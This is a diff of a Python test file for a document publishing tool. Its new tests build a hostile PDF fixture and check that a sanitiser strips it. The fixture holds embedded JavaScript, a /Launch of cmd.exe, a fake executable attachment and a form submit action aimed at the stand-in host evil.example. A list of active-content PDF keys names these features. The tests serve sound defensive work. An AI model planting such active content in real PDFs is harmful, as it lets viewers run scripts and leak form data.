@@ -2,14 +2,18 @@
 
 from __future__ import annotations
 
+import shutil
 from pathlib import Path
 
 import pytest
 from PIL import Image
 
+from generator import checks
 from generator.render import images
-from generator.render.images import PHOTO_WIDTHS, image_set, pdf_preview
-from tests.conftest import CONTENT
+from generator.render.images import PHOTO_WIDTHS, image_set
+from generator.render.pdfs import clean_pdf, pdf_preview
+from generator.validate import validate_paths
+from tests.conftest import CONTENT, FIXTURES
 
 XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>'
 
@@ -80,8 +84,165 @@ def test_a_published_pdf_loses_its_author_and_software_metadata(tmp_path: Path) 
         with pdf.open_metadata() as meta:
             meta["dc:creator"] = ["นายสมชาย ใจดี"]
         pdf.save(source)
-    clean = images.clean_pdf(source, tmp_path / "cache")
+    clean = clean_pdf(source, tmp_path / "cache")
     with pikepdf.open(clean) as published:
         assert not dict(published.docinfo) and "/Metadata" not in published.Root
         assert len(published.pages) == 1
     assert "สมชาย".encode("utf-16-be") not in clean.read_bytes() and b"ScannerApp" not in clean.read_bytes()
+
+
+def hostile_pdf(path: Path) -> Path:
+    """A one-page PDF with every kind of active content a viewer may run, and two plain links."""
+    import pikepdf
+    from pikepdf import Array, Dictionary, Name, String
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(595, 842))
+    page = pdf.pages[0]
+    page.obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Kept text) Tj ET")
+    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('pwned')"))
+
+    def action(kind: str, **extra: object) -> pikepdf.Dictionary:
+        return Dictionary(S=Name(kind), **extra)
+
+    def link(act: pikepdf.Dictionary, **extra: object) -> pikepdf.Dictionary:
+        return pdf.make_indirect(
+            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 10, 10]), A=act, **extra)
+        )
+
+    def annotation(**keys: object) -> pikepdf.Dictionary:
+        return pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 5, 5]), **keys))
+
+    attached = pdf.make_stream(b"MZ evil program")
+    attached.Type = Name.EmbeddedFile
+    filespec = pdf.make_indirect(
+        Dictionary(Type=Name.Filespec, F=String("evil.exe"), EF=Dictionary(F=attached))
+    )
+    field = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), Rect=Array([0, 0, 5, 5]),
+            AA=Dictionary(K=script), A=action("/SubmitForm", F=String("https://evil.example/collect")),
+        )
+    )  # fmt: skip
+    page.obj.Annots = Array(
+        [
+            link(action("/URI", URI=String("https://example.go.th/"))),
+            link(action("/GoTo", D=Array([page.obj, Name.Fit]))),
+            link(action("/URI", URI=String("javascript:alert(1)"))),
+            link(action("/URI", URI=String("https://example.go.th/"), Next=script)),
+            link(action("/Launch", F=String("cmd.exe"))),
+            link(action("/ImportData", F=String("data.fdf"))),
+            link(action("/GoToR", F=String("other.pdf"), D=Array([0, Name.Fit]))),
+            link(action("/GoToE", T=Dictionary(R=Name.C, N=String("evil.pdf")))),
+            link(script, AA=Dictionary(E=script)),
+            annotation(Subtype=Name.FileAttachment, FS=filespec),
+            annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
+            field,
+        ]
+    )  # fmt: skip
+    page.obj.AA = Dictionary(O=script)
+    pdf.Root.OpenAction = script
+    pdf.Root.AA = Dictionary(WC=script)
+    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
+    pdf.Root.Names = Dictionary(
+        JavaScript=Dictionary(Names=Array([String("run"), pdf.make_indirect(script)])),
+        EmbeddedFiles=Dictionary(Names=Array([String("evil.exe"), filespec])),
+    )
+    outline = pdf.make_indirect(Dictionary(Title=String("Open"), A=script))
+    pdf.Root.Outlines = pdf.make_indirect(
+        Dictionary(Type=Name.Outlines, First=outline, Last=outline, Count=1)
+    )
+    outline.Parent = pdf.Root.Outlines
+    pdf.save(path)
+    return path
+
+
+ACTIVE = {
+    *("/JavaScript", "/JS", "/OpenAction", "/AA", "/AcroForm", "/XFA"),
+    *("/EmbeddedFiles", "/EmbeddedFile", "/EF", "/FileAttachment", "/RichMedia", "/RichMediaContent"),
+    *("/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE"),
+}
+
+
+def names_in(pdf_path: Path) -> set[str]:
+    """Every key and name value anywhere in the object graph of a PDF, and its links' addresses."""
+    import pikepdf
+
+    found: set[str] = set()
+    with pikepdf.open(pdf_path) as pdf:
+        stack: list[object] = [pdf.trailer, *pdf.objects]
+        seen: set[tuple[int, int]] = set()
+        while stack:
+            item = stack.pop()
+            if isinstance(item, (pikepdf.Dictionary, pikepdf.Array, pikepdf.Stream)) and item.is_indirect:
+                if item.objgen in seen:
+                    continue
+                seen.add(item.objgen)
+            if isinstance(item, (pikepdf.Dictionary, pikepdf.Stream)):
+                found.update(item.keys())
+                stack.extend(item.values())
+            elif isinstance(item, pikepdf.Array):
+                stack.extend(item)
+            elif isinstance(item, (pikepdf.Name, pikepdf.String)):
+                found.add(str(item))
+    return found
+
+
+def test_a_published_pdf_runs_nothing_and_carries_no_attachment(tmp_path: Path) -> None:
+    """A citizen's PDF viewer would run a script, open a program or save an attachment from the
+    published copy; only the page's text and its plain web and in-document links are kept."""
+    import pikepdf
+
+    source = hostile_pdf(tmp_path / "hostile.pdf")
+    assert names_in(source) >= ACTIVE
+    clean = clean_pdf(source, tmp_path / "cache")
+    left = names_in(clean)
+    assert not ACTIVE & left, ACTIVE & left
+    assert "javascript:alert(1)" not in left and "cmd.exe" not in left and "evil.exe" not in left
+    assert b"pwned" not in clean.read_bytes() and b"MZ evil" not in clean.read_bytes()
+    with pikepdf.open(clean) as published:
+        page = published.pages[0]
+        assert b"Kept text" in page.Contents.read_bytes()
+        actions = [annot.A for annot in page.Annots if "/A" in annot]
+        assert [(str(a.S), str(a.get("/URI", ""))) for a in actions] == [
+            ("/URI", "https://example.go.th/"),
+            ("/GoTo", ""),
+        ]
+
+
+def test_a_photo_cut_short_after_it_was_checked_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A photo is remembered as checked only as it was: a photo changed since is decoded again."""
+    monkeypatch.setattr(checks, "CHECKED", tmp_path / "checked")
+    office = tmp_path / "sample-office"
+    shutil.copytree(FIXTURES / "valid" / "sample-office", office)
+    photo = office / "photos" / "before.png"
+    _, problems = validate_paths([office])
+    assert not [p for p in problems if p.is_error] and list((tmp_path / "checked").rglob("*"))
+    photo.write_bytes(photo.read_bytes()[: photo.stat().st_size // 2])
+    _, problems = validate_paths([office])
+    assert [(p.code, p.line) for p in problems if p.is_error] == [("image_unreadable", 74)]
+
+
+def test_a_national_id_in_a_pdfs_text_is_refused_at_its_line(tmp_path: Path) -> None:
+    """A scan with a text layer is read like any other text: a citizen's ID number is not published."""
+    import pikepdf
+    from pikepdf import Dictionary, Name
+
+    office = shutil.copytree(FIXTURES / "valid" / "sample-office", tmp_path / "sample-office")
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(595, 842))
+    page = pdf.pages[0]
+    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
+    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
+    page.obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Applicant 1-1017-00000-00-1) Tj ET")
+    (office / "attachments").mkdir()
+    pdf.save(office / "attachments" / "form.pdf")
+    report = office / "2569.yml"
+    scan = "    - kind: public_service\n      scan:\n        file: attachments/form.pdf\n"
+    report.write_text(report.read_text(encoding="utf-8").replace("    - kind: public_service\n", scan, 1))
+    _, problems = validate_paths([office])
+    errors = [p for p in problems if p.is_error]
+    assert [(p.code, p.line) for p in errors] == [("national_id_in_pdf", 35)]
+    assert "1xxxxxxxxxx01" in errors[0].en and "1017" not in errors[0].en
